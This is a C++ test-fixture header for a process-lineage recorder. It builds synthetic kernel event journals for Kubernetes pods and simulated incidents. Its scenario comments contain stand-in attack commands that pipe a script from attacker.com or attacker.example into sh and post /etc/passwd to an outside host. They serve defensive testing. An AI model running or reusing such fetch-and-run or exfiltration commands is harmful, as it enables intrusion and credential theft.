#pragma once
// FixtureJournal: writes real lineage journals (through JournalWriter, the
// same code `lineage record` uses) from a compact scenario description, and
// can feed the very same rows straight into a Model for tests that need no
// SQLite at all.
//
//   FixtureJournal fx;                               // boot "b0000000-...", node "node-1"
//   Proc init = fx.snapshot(1, 0, at(0, 10'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
//   Proc sh   = fx.proc(4242, at(1000, 123'456'789));
//   fx.fork(init, sh, at(1000, 123'456'789));
//   fx.exec(sh, "/bin/sh", {"sh", "-c", "id"}, at(1000, 200'000'000), kPodCgroup, "my-pod");
//   fx.connect(sh, "93.184.216.34", 80, at(1001));
//   fx.exit(sh, at(1002), 0);
//   fx.write(dir + "/j.db");
//
// Times are CLOCK_BOOTTIME nanoseconds. By default the run maps boot
// 1000 s to 2026-04-22T09:00:00Z (kWall0), so at(1000 + n) is 09:00:00 + n s.
// Processes are (tgid, start_ns) pairs: give them realistic nanosecond start
// times (at(1000, 123'456'789)) so the model's clock-tick identity matters.
//
// Every event is stored in the order of its time; rows are committed in
// batches of a few, like the recorder does. The fixture keeps track of what
// the kernel would report: a forked child inherits comm, cgroup and UTS
// name; an exec sets comm to the binary's base name (15 bytes); the exec
// row's real parent is the forker while it lives and the reaper after.
// Like the recorder (schema version 3), it writes a memberships row for a
// fork or an exec in a pod's cgroup and for every move, with a cgroups row
// the first time a cgroup is named.

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "event.h"
#include "journal_writer.h"
#include "model.h"
#include "test_files.h"

namespace fixture {

using lineage::ProcRef;
using Proc = lineage::ProcRef;

// 2026-04-22T09:00:00Z in wall-clock ns since the epoch.
inline constexpr int64_t kWall0 = 1776848400LL * 1'000'000'000LL;
// Boot-time ns that the default clock sample maps to kWall0.
inline constexpr uint64_t kBoot0 = 1000ULL * 1'000'000'000ULL;

// Boot-time ns from seconds and nanoseconds.
constexpr uint64_t at(uint64_t sec, uint64_t nsec = 0) {
    return sec * 1'000'000'000ULL + nsec;
}

// A systemd-driver cgroup v2 path of a container in a burstable pod.
std::string pod_cgroup(const std::string& pod_uid_dashed, const std::string& container_id_hex64);

struct RunOptions {
    std::string boot_id = "b0000000-0000-4000-8000-000000000001";
    std::string node = "node-1";
    int64_t clk_tck = 100;
    uint64_t started_ns = at(950);    // the recorder started here
    uint64_t stopped_ns = at(1200);   // ...and stopped cleanly here (09:03:20Z by default)
    bool clean_stop = true;           // false: no run_stops row (killed recorder)
    uint64_t clock_boot_ns = kBoot0;  // clock sample: this boot ns ...
    int64_t clock_wall_ns = kWall0;   // ... is this wall-clock time
    int64_t argv_cap = 131072;
    // The writer's unexited sets (JournalWriter::set_unexited_limits); 0:
    // the writer's defaults.
    size_t unexited_every_rows = 0;
    size_t unexited_max = 0;
};

// Optional details of an exec; the defaults are what the fixture tracked.
struct ExecOpts {
    std::optional<std::string> cgroup;    // default: inherited
    std::optional<std::string> nodename;  // default: inherited
    std::optional<std::string> comm;      // default: base name of binary, 15 bytes
    std::optional<uint32_t> nspid;        // default: inherited (tgid outside any pod)
    std::optional<Proc> parent;           // default: the forker, or the reaper once it exited
    uint32_t uid = 0, gid = 0, euid = 0;
    uint32_t truncated = 0;               // lineage::kArgvTruncated | ...
    std::optional<std::string> raw_argv;  // exact NUL-separated bytes instead of args
    // The file the kernel really ran (an exec_files row, schema version 8);
    // none: the exec says nothing of its file, as in an older journal.
    std::optional<lineage::ExecFile> file;
};

class FixtureJournal {
public:
    explicit FixtureJournal(RunOptions run = {});

    const RunOptions& run() const { return run_; }
    // What write() begins its run with, started at `started_ns` (a test that
    // appends a run of its own to the journal begins it the same way).
    lineage::RunInfo run_info(uint64_t started_ns) const;
    // Wall-clock ns of a boot time, through this run's clock sample.
    int64_t wall(uint64_t boot_ns) const;

    // Names a process; nothing is recorded. Use it for fork children.
    static Proc proc(uint32_t tgid, uint64_t start_ns) { return Proc{tgid, start_ns}; }

    // A process already running when the run started, as /proc showed it.
    // start_ns is cut to the clock tick, as /proc only gives ticks.
    Proc snapshot(uint32_t tgid, uint32_t ppid, uint64_t start_ns, const std::string& comm, const std::string& exe,
                  const std::vector<std::string>& argv, const std::string& cgroup = "/system.slice",
                  const std::string& nodename = "node-1", uint32_t nspid = 0);

    // The process that adopts orphans (exec rows name it as real parent once
    // the forker has exited). Default: PID 1 started at boot 0.5 s.
    void set_reaper(Proc reaper) { reaper_ = reaper; }

    // nspid: the child's pid in its namespace (default: its parent's
    // namespace is the host's, so its tgid).
    void fork(Proc parent, Proc child, uint64_t t, std::optional<uint32_t> nspid = std::nullopt);
    void exec(Proc p, const std::string& binary, const std::vector<std::string>& argv, uint64_t t, ExecOpts opts = {});
    // Shorthand with the cgroup and UTS host name the scenarios use.
    void exec(Proc p, const std::string& binary, const std::vector<std::string>& argv, uint64_t t,
              const std::string& cgroup, const std::string& nodename, std::optional<uint32_t> nspid = {});
    void exit(Proc p, uint64_t t, int code = 0, int signal = 0, bool core_dumped = false);
    // `mover` moved p, already running, into `cgroup` (cgroup v2).
    void move(Proc p, const std::string& cgroup, uint64_t t, Proc mover);
    void connect(Proc p, const std::string& daddr, uint16_t dport, uint64_t t, bool established = true,
                 const std::string& saddr = "10.244.1.17", uint16_t sport = 43512, int family = 4);
    // A TCP socket of p entered LISTEN (a listens row, schema version 8).
    void listen(Proc p, const std::string& addr, uint16_t port, uint64_t t, int family = 4);
    // A dns row (schema version 10), written at e.time_ns.
    void dns(const lineage::DnsEvent& e);
    // A file_hashes row (schema version 8), written at row.time_ns.
    void file_hash(const lineage::FileHashRow& row);
    void loss(uint64_t from_ns, uint64_t to_ns, int64_t count, const std::string& reason = "ringbuf_full");
    void pod(const std::string& pod_uid, const std::string& name, const std::string& ns,
             const std::string& source = "log-dir");
    // What a file on the node said about a container (schema version 7),
    // written at start like the pod names.
    void container(const lineage::ContainerRow& row) { containers_.push_back(row); }
    // What the kernel calls a process that no fork, exec or snapshot row
    // introduced (used by its exit row, and by exec rows naming it as parent).
    void comm(Proc p, const std::string& comm) { track(p).comm = comm; }

    // Writes the journal (the file must not exist). Throws std::runtime_error
    // on any JournalWriter error, so a broken fixture fails loudly.
    void write(const std::string& path) const;
    // Feeds the same rows into a model (call model.finish() yourself when
    // combining several fixtures; build_model() does it for one).
    void load_into(lineage::Model& model, const std::string& journal_name = "fixture.db") const;
    lineage::Model build_model(const std::string& journal_name = "fixture.db") const;

private:
    struct Tracked {
        std::string comm, cgroup, nodename;
        uint32_t nspid = 0;
        std::optional<Proc> forker;
        std::optional<uint64_t> exited_at;
    };
    struct LossRow {
        uint64_t from_ns, to_ns;
        int64_t count;
        std::string reason;
    };
    struct PodRow {
        std::string uid, name, ns, source;
    };
    // One journal row in time order: an event, a loss or a membership.
    struct Row {
        uint64_t time_ns;
        size_t seq;
        std::optional<lineage::Event> event;
        std::optional<LossRow> loss;
        std::optional<lineage::MembershipRow> membership;
        std::optional<lineage::FileHashRow> file_hash;
    };

    Tracked& track(Proc p);
    static std::string key(Proc p);
    void push(uint64_t t, lineage::Event e);
    // A memberships row when `cgroup` is a pod's (always for a move).
    void membership(Proc p, lineage::MembershipHow how, const std::string& cgroup, uint64_t t,
                    std::optional<Proc> by = std::nullopt, bool always = false);

    RunOptions run_;
    Proc reaper_{1, 500'000'000};
    std::map<std::string, Tracked> procs_;
    std::vector<lineage::SnapshotRow> snapshot_;
    std::vector<Row> rows_;
    std::vector<PodRow> pods_;
    std::vector<lineage::ContainerRow> containers_;
    std::map<std::string, uint64_t> cgroup_ids_;  // path -> the id the fixture gave it
    size_t seq_ = 0;

public:
    // The cgroup v2 id the fixture gives a path (its exec rows carry it too).
    uint64_t cgroup_id(const std::string& path);
    // The cgroups rows, in the order the fixture named them.
    std::vector<lineage::CgroupRow> cgroup_rows() const;
};

// ---------------------------------------------------------------- harness

// A private temporary directory, removed with everything in it.
// The one TempDir, read_file and write_file of the tests (tests/common).
using lineage::test::read_file;
using lineage::test::TempDir;
using lineage::test::write_file;

struct RunResult {
    int status = -1;  // exit code, or 128 + signal
    std::string out, err;
    double wall_s = 0;       // from start to exit
    int64_t maxrss_kib = 0;  // peak resident set size, with a deadline only
    bool killed = false;     // ran past the deadline and was killed
};

// Environment changes for one run: a value sets, nullopt removes.
using EnvEdits = std::map<std::string, std::optional<std::string>>;

// Runs command[0] (a path, not searched in PATH) with command as argv, in
// directory cwd, stdin /dev/null, stdout a pipe (as with popen) and stderr
// a file, both captured: never a TTY. The environment is the test's own minus NO_COLOR, with
// TZ=UTC, then edits. With deadline_s > 0, the command runs under
// lineage_test_measure (tests/common), which reports its own peak RSS in
// maxrss_kib, and is killed (SIGKILL; killed is set) if it still runs after
// that long: a test of something that must not hang fails instead.
RunResult run_process(const std::vector<std::string>& command, const std::string& cwd, const EnvEdits& edits = {},
                      double deadline_s = 0);

// run_process of LINEAGE_BIN followed by args.
RunResult run_lineage(const std::vector<std::string>& args, const std::string& cwd, const EnvEdits& edits = {},
                      double deadline_s = 0);

// "" when every file validates against schema/<schema> (python3's
// jsonschema), else the validator's report (or that jsonschema is missing).
std::string schema_errors(const std::string& schema, const std::vector<std::string>& files);

// testdata/golden/<name> in the source tree.
std::string golden_path(const std::string& name);
bool update_goldens();  // LINEAGE_UPDATE_GOLDEN=1
// With LINEAGE_UPDATE_GOLDEN=1 writes actual as the golden and returns "".
// Otherwise returns "" when actual equals the golden byte for byte, else a
// readable description of the first difference (or of a missing file).
std::string golden_mismatch(const std::string& name, const std::string& actual);

// ---------------------------------------------------------------- the seed incident

inline const std::string kIncidentPodUid = "7c9e6679-7425-40de-944b-e07fc1f90ae7";
inline const std::string kIncidentPodName = "my-app-6d4f9-xk2p1";
inline const std::string kIncidentNamespace = "production";
inline const std::string kIncidentContainer = "4f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8";
inline const std::string kIncidentSince = "2026-04-22T09:00:00Z";
inline const std::string kIncidentUntil = "2026-04-22T09:05:00Z";

// my-app (18201, forked by containerd-shim 18150 outside the pod)
//   -> sh -c "curl http://attacker.com/payload.sh | sh" (18293)
//     -> sh payload.sh (18294)
//       -> cat /etc/passwd (18295)
//       -> curl http://attacker.com/exfil -d @/etc/passwd (18296), connect 93.184.216.34:80
// plus a host process (journalctl, 19000) in the same window, outside the pod.
FixtureJournal incident_fixture();

}  // namespace fixture

namespace fixture {

// ---------------------------------------------------------------- a pod with a liveness loop

inline const std::string kLivenessPodUid = "5d1c2b3a-4f5e-4d6c-8b7a-9e8f7a6b5c4d";
inline const std::string kLivenessPodName = "probe-demo-7b8c9-k4m2z";
inline const std::string kLivenessNamespace = "payments";
inline const std::string kLivenessContainer = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90";
inline constexpr uint32_t kLivenessLoopPid = 30100;
inline constexpr uint32_t kLivenessOddPid = 30115;    // the probe that exits 1
inline constexpr uint32_t kLivenessBatchPid = 30500;  // nested repeats below it
inline constexpr uint32_t kLivenessCurlPid = 30602;   // the attack's connect

// containerd-shim (30000, outside the pod)
//   -> sh /app/loop.sh (30100, the container's init): every 10 s from
//      09:00:00.020 a probe `sh -c "test -f /tmp/healthy"` (exit 0; the 8th,
//      30115, exits 1) and a `sleep 10`, 20 of each, alternating
//   -> sh /app/batch.sh (30500) -> 4 x sh -c "gzip -9 /var/log/app/*.log"
//      -> 3 x gzip -9 each (nested repeats)
//   -> sh -c "curl -s http://attacker.example/x | sh" (30600)
//      -> sh (30601) -> curl (30602, connects to 203.0.113.9:443)
// containerd-shim -> sh (30700, a `kubectl exec` session, a second root in
// the pod) -> ls / (30701). A loss of 3 events at 09:02:00-09:02:01.
FixtureJournal liveness_fixture();

}  // namespace fixture
